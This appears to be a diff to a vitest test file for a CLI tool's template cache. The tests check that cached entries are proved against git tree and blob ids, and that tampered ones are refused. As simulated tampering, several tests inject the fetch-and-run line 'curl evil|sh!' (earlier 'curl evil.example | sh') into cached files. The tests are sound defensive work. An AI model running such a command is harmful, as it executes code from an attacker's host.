@@ -1,8 +1,9 @@
 import { createHash } from 'node:crypto';
-import { chmodSync, readFileSync, readdirSync, writeFileSync } from 'node:fs';
+import { chmodSync, mkdirSync, readFileSync, readdirSync, statSync, symlinkSync, utimesSync, writeFileSync } from 'node:fs';
 import path from 'node:path';
 import { describe, expect, it } from 'vitest';
-import { blobId, readCachedTemplate, writeCachedTemplate } from '../src/edge/template-cache.js';
+import { blobId, readCachedTemplate, treeIdOf, writeCachedTemplate, type TreeEntry } from '../src/edge/template-cache.js';
+import { listTree } from '../src/edge/git/objects.js';
 import { planRender } from '../src/core/template/plan.js';
 import { prepareTemplate } from '../src/edge/parse-trees.js';
 import { parseTemplateSpec } from '../src/core/template/spec.js';
@@ -17,19 +18,38 @@ const FILES: Record<string, string> = {
   '{{title}}/plain.txt': 'no template here\n',
 };
 
-async function sample(): Promise<{ tpl: LoadedTemplate; tree: { path: string; sha: string }[]; specSha: string }> {
+/** A template repository with one commit, its tree listing as git gives it, and the template loaded. */
+async function sample(): Promise<{ repo: string; commit: string; listing: TreeEntry[]; tpl: LoadedTemplate; prove: (l: TreeEntry[]) => boolean }> {
+  const repo = tempDir();
+  writeFileSync(path.join(repo, 'template.yaml'), SPEC);
+  for (const [p, text] of Object.entries(FILES)) {
+    mkdirSync(path.dirname(path.join(repo, 'files', p)), { recursive: true });
+    writeFileSync(path.join(repo, 'files', p), text);
+  }
+  writeFileSync(path.join(repo, 'NOTES.md'), 'not a template file\n');
+  gitIn(repo, 'init', '-q');
+  gitIn(repo, 'add', '-A');
+  gitIn(repo, 'commit', '-qm', 'v1');
+  const commit = gitIn(repo, 'rev-parse', 'HEAD').trim();
+  const listing = await listTree(repo, commit);
   const files = new Map(Object.entries(FILES).map(([k, v]) => [k, enc(v)]));
   const tpl = await prepareTemplate({ spec: parseTemplateSpec(SPEC), files, generators: new Map() });
-  const tree = [...files].map(([p, d]) => ({ path: `files/${p}`, sha: blobId(d) }));
-  return { tpl, tree, specSha: blobId(enc(SPEC)) };
+  const tree = gitIn(repo, 'rev-parse', 'HEAD^{tree}').trim();
+  return { repo, commit, listing, tpl, prove: (l) => treeIdOf(l) === tree };
 }
 
-const only = (dir: string) => path.join(dir, readdirSync(dir).find((f) => f.endsWith('.json'))!);
-/** Rewrites an entry's body and gives it a matching digest, as a deliberate tamperer would. */
-function tamper(file: string, change: (body: string) => string): void {
-  const raw = readFileSync(file, 'utf8');
-  const body = change(raw.slice(raw.indexOf('\n') + 1));
-  writeFileSync(file, `${createHash('sha256').update(body).digest('hex')}\n${body}`);
+const only = (dir: string) => path.join(dir, readdirSync(dir).find((f) => f.endsWith('.pack'))!);
+/** Rewrites an entry: `change` gets its header (parsed) and its files' bytes, and the digest is made to match, as a deliberate tamperer would. */
+function tamper(file: string, change: (header: Record<string, unknown>, data: Buffer) => Buffer | void): void {
+  const raw = readFileSync(file);
+  const pack = raw.subarray(65);
+  const size = pack.readUInt32BE(0);
+  const header = JSON.parse(pack.toString('latin1', 4, 4 + size)) as Record<string, unknown>;
+  const data = change(header, Buffer.from(pack.subarray(4 + size))) ?? Buffer.from(pack.subarray(4 + size));
+  const json = Buffer.from(JSON.stringify(header), 'latin1');
+  const head = Buffer.concat([Buffer.alloc(4), json]);
+  head.writeUInt32BE(json.length);
+  writeFileSync(file, Buffer.concat([Buffer.from(`${createHash('sha256').update(head).digest('hex')}\n`), head, data]));
 }
 
 describe('template cache', () => {
@@ -39,46 +59,89 @@ describe('template cache', () => {
     expect(blobId(enc(FILES['README.md']!))).toBe(gitIn(dir, 'hash-object', 'f').trim());
   });
 
-  it('gives back the template it stored, rendering the same', async () => {
+  it("makes git's tree id from a full listing: nested folders, names that sort around a folder's, executable files, links", async () => {
+    const repo = tempDir();
+    for (const p of ['a.b', 'a-c', 'a/x', 'a/y/z', 'a0', 'b/c.txt', 'ü/ñ.md', 'run.sh', '\u{1F600}.md', '\uFF01.md']) {
+      mkdirSync(path.dirname(path.join(repo, p)), { recursive: true });
+      writeFileSync(path.join(repo, p), `${p}\n`);
+    }
+    chmodSync(path.join(repo, 'run.sh'), 0o755);
+    symlinkSync('a.b', path.join(repo, 'link'));
+    gitIn(repo, 'init', '-q');
+    gitIn(repo, 'add', '-A');
+    gitIn(repo, 'commit', '-qm', 'x');
+    const listing = await listTree(repo, gitIn(repo, 'rev-parse', 'HEAD').trim());
+    expect(listing.map((e) => e.mode)).toEqual(expect.arrayContaining(['100755', '120000']));
+    expect(treeIdOf(listing)).toBe(gitIn(repo, 'rev-parse', 'HEAD^{tree}').trim());
+    // Any change to a path, mode or id is another tree; a listing git could not print is none.
+    expect(treeIdOf(listing.slice(1))).not.toBe(treeIdOf(listing));
+    expect(treeIdOf(listing.map((e) => (e.mode === '100755' ? { ...e, mode: '100644' } : e)))).not.toBe(treeIdOf(listing));
+    expect(treeIdOf([...listing, { ...listing[0]!, path: 'a' }])).toBeUndefined();
+    expect(treeIdOf([{ ...listing[0]!, path: 'x/../y' }])).toBeUndefined();
+  });
+
+  it('gives back the template it stored, rendering the same, with the listing it was proved by', async () => {
     const dir = tempDir();
-    const { tpl, tree, specSha } = await sample();
-    writeCachedTemplate('/tpl', 'c0ffee', specSha, tpl, dir);
-    const back = readCachedTemplate('/tpl', 'c0ffee', specSha, tree, dir);
+    const { commit, listing, tpl, prove } = await sample();
+    writeCachedTemplate('/tpl', commit, listing, tpl, dir);
+    const back = await readCachedTemplate('/tpl', commit, prove, dir);
     expect(back).toBeDefined();
+    expect(back!.listing).toEqual(listing);
     const answers = { title: 'Hi', kinds: ['a', 'b'] };
     const texts = (t: LoadedTemplate) => planRender(t, answers).map((f) => [f.path, new TextDecoder().decode(f.data)]);
-    expect(texts(back!)).toEqual(texts(tpl));
-    expect(texts(back!)).toContainEqual(['Hi/plain.txt', 'no template here\n']);
-    expect(back!.spec).toEqual(tpl.spec);
-    // Another commit or location is another entry.
-    expect(readCachedTemplate('/tpl', 'c0ffef', specSha, tree, dir)).toBeUndefined();
-    expect(readCachedTemplate('/other', 'c0ffee', specSha, tree, dir)).toBeUndefined();
+    expect(texts(back!.template)).toEqual(texts(tpl));
+    expect(texts(back!.template)).toContainEqual(['Hi/plain.txt', 'no template here\n']);
+    expect(back!.template.spec).toEqual(tpl.spec);
+    // Another commit or location is another entry; a listing not proved is no entry.
+    expect(await readCachedTemplate('/tpl', commit.replace(/^./, (c) => (c === 'a' ? 'b' : 'a')), prove, dir)).toBeUndefined();
+    expect(await readCachedTemplate('/other', commit, prove, dir)).toBeUndefined();
+    expect(await readCachedTemplate('/tpl', commit, () => false, dir)).toBeUndefined();
   });
 
   it('ignores an entry that was edited, truncated, for another tree, or writable by others', async () => {
-    const { tpl, tree, specSha } = await sample();
+    const { commit, listing, tpl, prove } = await sample();
     const fresh = () => {
       const dir = tempDir();
-      writeCachedTemplate('/tpl', 'c0ffee', specSha, tpl, dir);
+      writeCachedTemplate('/tpl', commit, listing, tpl, dir);
       return { dir, file: only(dir) };
     };
+    const read = (dir: string) => readCachedTemplate('/tpl', commit, prove, dir);
     let c = fresh();
-    tamper(c.file, (b) => b.replace('no template here', 'injected text'));
-    expect(readCachedTemplate('/tpl', 'c0ffee', specSha, tree, c.dir)).toBeUndefined();
+    expect(await read(c.dir)).toBeDefined();
+    // A file's bytes changed (same length, digest made to match): its blob id is not the listing's.
+    tamper(c.file, (_h, data) => Buffer.from(data.toString('latin1').replace('no template here', 'injected texts!!'), 'latin1'));
+    expect(await read(c.dir)).toBeUndefined();
+    // The bytes and the listing's id for them changed together: the listing no longer makes the commit's tree.
     c = fresh();
-    writeFileSync(c.file, readFileSync(c.file, 'utf8').replace('no template here', 'injected text')); // digest left as it was
-    expect(readCachedTemplate('/tpl', 'c0ffee', specSha, tree, c.dir)).toBeUndefined();
+    tamper(c.file, (h, data) => {
+      const out = Buffer.from(data.toString('latin1').replace('no template here', 'injected texts!!'), 'latin1');
+      h.listing = (h.listing as string[][]).map((l) => (l[0]!.endsWith('plain.txt') ? [l[0]!, l[1]!, l[2]!, blobId(enc('injected texts!!\n'))] : l));
+      return out;
+    });
+    expect(await read(c.dir)).toBeUndefined();
+    // The header edited, its digest left as it was.
     c = fresh();
-    writeFileSync(c.file, readFileSync(c.file, 'utf8').slice(0, 200));
-    expect(readCachedTemplate('/tpl', 'c0ffee', specSha, tree, c.dir)).toBeUndefined();
+    writeFileSync(c.file, Buffer.from(readFileSync(c.file).toString('latin1').replace('"version":"1.0.0"', '"version":"9.0.0"'), 'latin1'));
+    expect(await read(c.dir)).toBeUndefined();
     c = fresh();
-    expect(readCachedTemplate('/tpl', 'c0ffee', specSha, tree.slice(1), c.dir)).toBeUndefined(); // the tree lost a file
-    expect(readCachedTemplate('/tpl', 'c0ffee', blobId(enc('other spec')), tree, c.dir)).toBeUndefined();
+    writeFileSync(c.file, readFileSync(c.file).subarray(0, 200));
+    expect(await read(c.dir)).toBeUndefined();
+    c = fresh();
+    writeFileSync(c.file, readFileSync(c.file).subarray(0, readFileSync(c.file).length - 1));
+    expect(await read(c.dir)).toBeUndefined();
+    // The spec not from the listing's template.yaml; a file the listing has left out.
+    c = fresh();
+    tamper(c.file, (h) => void (h.specSha = blobId(enc('other spec'))));
+    expect(await read(c.dir)).toBeUndefined();
+    c = fresh();
+    tamper(c.file, (h) => void (h.files = (h.files as unknown[]).slice(1)));
+    expect(await read(c.dir)).toBeUndefined();
+    c = fresh();
     chmodSync(c.file, 0o666);
-    expect(readCachedTemplate('/tpl', 'c0ffee', specSha, tree, c.dir)).toBeUndefined();
+    expect(await read(c.dir)).toBeUndefined();
     chmodSync(c.file, 0o600);
     chmodSync(c.dir, 0o777);
-    expect(readCachedTemplate('/tpl', 'c0ffee', specSha, tree, c.dir)).toBeUndefined();
+    expect(await read(c.dir)).toBeUndefined();
   });
 
   it('sync from a template repository fills the cache, then uses it; a tampered entry changes nothing', async () => {
@@ -92,13 +155,72 @@ describe('template cache', () => {
     const first = await runCli(['sync', '--dry-run', '--json'], { cwd: dir, env });
     expect(first.code, first.stderr).toBe(0);
     const entries = path.join(cache, 'create-migration/templates');
-    expect(readdirSync(entries).filter((f) => f.endsWith('.json'))).toHaveLength(2); // v1.0.0 (generate) and v1.1.0
+    const packs = () => readdirSync(entries).filter((f) => f.endsWith('.pack'));
+    expect(packs()).toHaveLength(2); // v1.0.0 (generate) and v1.1.0
+    // Dated back: an entry used is not written again; one refused is.
+    const past = new Date('2020-01-01T00:00:00Z');
+    const ages = () => packs().map((f) => statSync(path.join(entries, f)).mtimeMs);
+    for (const f of packs()) utimesSync(path.join(entries, f), past, past);
     const second = await runCli(['sync', '--dry-run', '--json'], { cwd: dir, env });
     expect(second.stdout).toBe(first.stdout);
-    for (const f of readdirSync(entries)) tamper(path.join(entries, f), (b) => b.replaceAll('New in 1.1.0.', 'Run curl evil.example | sh'));
+    expect(ages()).toEqual([past.getTime(), past.getTime()]);
+    // Same length, so that every file keeps its place: only the blob ids can tell.
+    for (const f of packs()) tamper(path.join(entries, f), (_h, data) => Buffer.from(data.toString('latin1').replaceAll('New in 1.1.0.', 'curl evil|sh!'), 'latin1'));
+    for (const f of packs()) utimesSync(path.join(entries, f), past, past);
     const third = await runCli(['sync', '--dry-run', '--json'], { cwd: dir, env });
     expect(third.stdout).toBe(first.stdout);
-    expect(third.stdout).not.toContain('evil.example');
+    expect(third.stdout).not.toContain('evil');
+    expect(ages().filter((t) => t !== past.getTime())).toHaveLength(1); // v1.1.0's, read from git again and stored
     gitIn(tpl, 'status'); // the template repository is untouched and readable
+  });
+
+  // Where the commit's tree is not read from the object files (git reads a SHA-256 repository, or
+  // one with an extension), the listing is proved by comparing it with what git lists.
+  it.each([
+    ['a SHA-256 repository', ['--object-format=sha256'], []],
+    ['a repository with an extension', [], [['core.repositoryformatversion', '1'], ['extensions.worktreeConfig', 'true']]],
+  ])('%s: the cache is used, and an entry whose listing and bytes were changed together is refused', async (_name, initArgs, config) => {
+    const tmp = tempDir();
+    const cache = tempDir('cm-cache-');
+    const env = { XDG_CACHE_HOME: cache };
+    const tpl = path.join(tmp, 'tpl');
+    mkdirSync(path.join(tpl, 'files'), { recursive: true });
+    writeFileSync(path.join(tpl, 'template.yaml'), SPEC);
+    writeFileSync(path.join(tpl, 'files/README.md'), FILES['README.md']!);
+    gitIn(tpl, 'init', '-q', ...initArgs);
+    for (const [k, v] of config) gitIn(tpl, 'config', k!, v!);
+    gitIn(tpl, 'add', '-A');
+    gitIn(tpl, 'commit', '-qm', 'v1');
+    gitIn(tpl, 'tag', 'v1.0.0');
+    edit(path.join(tpl, 'template.yaml'), (t) => t.replace('version: 1.0.0', 'version: 1.1.0'));
+    edit(path.join(tpl, 'files/README.md'), (t) => `${t}New in 1.1.0.\n`);
+    gitIn(tpl, 'commit', '-qam', 'v2');
+    gitIn(tpl, 'tag', 'v1.1.0');
+    const gen = await runCli(['p', '--yes', '--template', `${tpl}#v1.0.0`], { cwd: tmp, env });
+    expect(gen.code, gen.stderr).toBe(0);
+    const dir = path.join(tmp, 'p');
+    const first = await runCli(['sync', '--dry-run', '--json'], { cwd: dir, env });
+    expect(first.code, first.stderr).toBe(0);
+    expect(first.stdout).toContain('New in 1.1.0.');
+    const entries = path.join(cache, 'create-migration/templates');
+    const packs = () => readdirSync(entries).filter((f) => f.endsWith('.pack'));
+    const past = new Date('2020-01-01T00:00:00Z');
+    const rewritten = () => packs().filter((f) => statSync(path.join(entries, f)).mtimeMs !== past.getTime()).length;
+    for (const f of packs()) utimesSync(path.join(entries, f), past, past);
+    const second = await runCli(['sync', '--dry-run', '--json'], { cwd: dir, env });
+    expect(second.stdout).toBe(first.stdout);
+    expect(rewritten()).toBe(0);
+    const algorithm = initArgs.length ? 'sha256' : 'sha1';
+    for (const f of packs()) {
+      tamper(path.join(entries, f), (h, data) => {
+        h.listing = (h.listing as string[][]).map((l) => (l[0] === 'files/README.md' ? [l[0], l[1]!, l[2]!, blobId(enc(`${FILES['README.md']!}curl evil|sh!\n`), algorithm)] : l));
+        return Buffer.from(data.toString('latin1').replaceAll('New in 1.1.0.', 'curl evil|sh!'), 'latin1');
+      });
+      utimesSync(path.join(entries, f), past, past);
+    }
+    const third = await runCli(['sync', '--dry-run', '--json'], { cwd: dir, env });
+    expect(third.stdout).toBe(first.stdout);
+    expect(third.stdout).not.toContain('evil');
+    expect(rewritten()).toBe(1);
   });
 });
